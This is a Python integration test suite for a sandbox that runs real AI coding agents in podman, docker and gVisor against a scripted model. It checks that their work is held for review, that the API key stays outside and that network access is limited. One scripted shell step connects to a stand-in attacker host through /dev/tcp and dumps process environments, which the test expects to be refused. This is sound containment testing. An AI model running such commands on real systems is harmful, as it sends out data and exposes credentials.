"""Real agents of npm do a task in containers: in a root of this machine's programs, in images, in gVisor.

Each is started as a person would, with a key and a base URL in the environment. Whichever root it has, the change set
is held and applied by review, its commit comes over, the key stays outside, and of all that is asked for only the
model is reached.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest

from paddock.probes.planting.files import fingerprint
from tests import docker, podman
from tests.capabilities import needs
from tests.real import roots
from tests.real.agents import AGENTS, IDENTITY, KEY, RIGHT, WRONG, at_home
from tests.scripted_model.server import ScriptedModel

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.conftest import Person

pytestmark = [needs("podman", "git", "npm", "node"), pytest.mark.net, pytest.mark.slow]

BARE, EQUIPPED = "localhost/paddock-test-glibc:1", "localhost/paddock-test-equipped:1"
THIEF = "thief.example.test"
SYSTEM_PATH = "/usr/local/bin:/usr/bin:/bin"
KEPT = "kept-of-an-earlier-command"


@pytest.fixture(scope="module")
def ann(tmp_path_factory: pytest.TempPathFactory, agents_home: Path) -> Iterator[Person]:
    """A person with two images: one with a shell and git, and one that has an agent as well."""
    base = tmp_path_factory.mktemp("ann")
    for person in podman.person_of(base / "home"):
        roots.lay_out(base / "image")
        roots.build(person, base / "image", BARE)
        roots.add(person, os.path.realpath(agents_home / ".local/bin/claude"), base / "more", EQUIPPED, on=BARE)
        shutil.rmtree(base / "more")
        yield person
        remove = ("podman", "image", "rm", "--force", EQUIPPED, BARE)  # root's storage is everyone's
        subprocess.run(remove, env=person.environ, check=True, capture_output=True)


@pytest.fixture
def task(repo: Path, ann: Person) -> Path:
    """A repository with a mistake, of that person."""
    (repo / "calc.py").write_text(f"def add(a, b):\n    {WRONG}\n")
    commit(repo, ann)
    return repo


def commit(repo: Path, person: Person) -> None:
    for command in (("add", "."), (*IDENTITY.split(), "commit", "-q", "-m", "Add")):
        subprocess.run(["git", *command], cwd=repo, env=person.environ, check=True)


def steps(name: str, repo: Path) -> list[dict[str, object]]:
    agent = AGENTS[name]
    return [
        agent.look(f"{repo}/calc.py"),
        agent.edit(f"{repo}/calc.py"),
        agent.shell(f"git add -A && git {IDENTITY} commit -q -m 'Add, not subtract' && git log --oneline"),
        agent.shell(f"(echo x > /dev/tcp/{THIEF}/80) 2>&1; cat ~/kept 2>&1; uname -r; tr '\\0' '\\n' < /proc/$PPID/environ; env"),
        {"say": "All done."},
    ]  # fmt: skip


def works(name: str, someone: Person, repo: Path, *words: str) -> str:
    """Let an agent do the task, review what it did, and hold all of it to what is promised. What its shell said."""
    agent = AGENTS[name]
    before = fingerprint(repo)
    with ScriptedModel(steps(name, repo)) as model:
        variable, tail = agent.base_url
        caller = replace(someone, extra={**someone.extra, variable: model.address + tail})
        done = caller.call("run", *words, "--", *agent.command, cwd=repo, timeout_s=300)
        results = model.tool_results()
    assert done.returncode == 0, done.stdout + done.stderr
    assert "All done." in done.stdout, done.stdout + done.stderr
    assert len(results) == len(model.script) - 1, results
    assert "Add, not subtract" in results[2], results
    assert fingerprint(repo) == before, "held, until somebody says so"

    asked = [entry for entry in model.requests if entry["body"]]
    assert {entry["headers"].get(agent.header[0]) for entry in asked} == {agent.header[1]}
    assert agent.inside in results[3], "the placeholder is there to be read"
    assert KEY not in json.dumps([entry["body"] for entry in model.requests]) + done.stdout + done.stderr

    recorded = json.loads(someone.call("log", "show", "--json", cwd=repo).stdout)
    assert KEY not in json.dumps(recorded)
    reached, refused = outcomes(recorded)
    assert reached == {"127.0.0.1"}, recorded
    assert THIEF in refused, recorded
    assert agent.curious or refused == {THIEF}, recorded
    assert someone.call("log", "verify", cwd=repo).returncode == 0

    applied = someone.call("apply", cwd=repo)
    assert applied.returncode == 0, applied.stderr
    assert RIGHT in (repo / "calc.py").read_text()
    log = subprocess.run(
        ["git", "log", "--all", "--format=%s"], cwd=repo, env=someone.environ, capture_output=True, check=True
    )
    assert b"Add, not subtract" in log.stdout
    return results[3]


def outcomes(recorded: dict[str, Any]) -> tuple[set[str], set[str]]:
    """The names that were reached, and those that were refused."""
    told = [event for event in recorded["events"] if "verdict" in event]
    reached = {event["name"] for event in told if event["verdict"] == "allowed"}
    return reached, {event["name"] for event in told if event["verdict"] == "refused"}


@pytest.mark.parametrize(
    ("name", "root"),
    [("claude", ()), ("codex", ()), *((name, ("--image", BARE)) for name in ("claude", "codex", "opencode"))],
)
def test_it_edits_and_commits_in_podman(
    name: str, root: tuple[str, ...], ann: Person, agents_home: Path, task: Path
) -> None:
    works(name, at_home(ann, agents_home, name, ""), task, "--boundary", "podman", *root)


def test_an_agent_in_the_image_goes_before_the_machines(ann: Person, agents_home: Path, task: Path) -> None:
    without = replace(at_home(ann, agents_home, "claude", ""), extra={"ANTHROPIC_API_KEY": KEY, "PATH": SYSTEM_PATH})
    said = works("claude", without, task, "--boundary", "podman", "--image", EQUIPPED)
    assert "CLAUDE_CODE_EXECPATH=/usr/local/bin/claude" in said
    both = at_home(ann, agents_home, "claude", "")
    show = ("bash", "-c", "command -v claude; ls /run/paddock/agent/bin 2>&1")
    found = both.call("run", "--boundary", "podman", "--image", EQUIPPED, "--", *show, cwd=task)
    assert found.stdout.split()[0] == "/usr/local/bin/claude", found.stderr


def test_in_a_dev_container_it_has_the_home_of_the_set_up(ann: Person, agents_home: Path, task: Path) -> None:
    configuration = {
        "image": BARE,
        "remoteUser": "ann",
        "workspaceFolder": "/workspaces/app",
        "postCreateCommand": f"echo {KEPT} > ~/kept",
    }
    (task / ".devcontainer.json").write_text(json.dumps(configuration))
    commit(task, ann)
    try:
        up = ann.call("devcontainer", "up", cwd=task)
        assert up.returncode == 0, up.stderr
        assert ann.call("devcontainer", "exec", "--", "cat", "/home/ann/kept", cwd=task).stdout.strip() == KEPT
        joined = ann.call("devcontainer", "exec", "--", "claude", "--version", cwd=task)
        assert "has no key and no network of its own here" in joined.stderr
        assert ann.call("devcontainer", "stop", cwd=task).returncode == 0
        said = works("claude", at_home(ann, agents_home, "claude", ""), task, "--boundary", "podman")
        assert KEPT in said
    finally:
        removed = ann.call("devcontainer", "rm", cwd=task)
        assert removed.returncode == 0, removed.stderr


@needs("docker")
def test_it_edits_and_commits_where_docker_is_all_there_is(agents_home: Path, task: Path, tmp_path: Path) -> None:
    with docker.daemon() as found:
        someone = docker.person_of(tmp_path / "of-docker", found)
        works("claude", at_home(someone, agents_home, "claude", ""), task)
        assert "localhost/paddock-empty" in found.call("images", "--format", "{{.Repository}}"), "podman was there, too"
        assert found.left() == []


@needs("gvisor")
def test_it_edits_and_commits_in_gvisor(ann: Person, agents_home: Path, task: Path) -> None:
    said = works("claude", at_home(ann, agents_home, "claude", ""), task, "--boundary", "gvisor")
    assert os.uname().release not in said
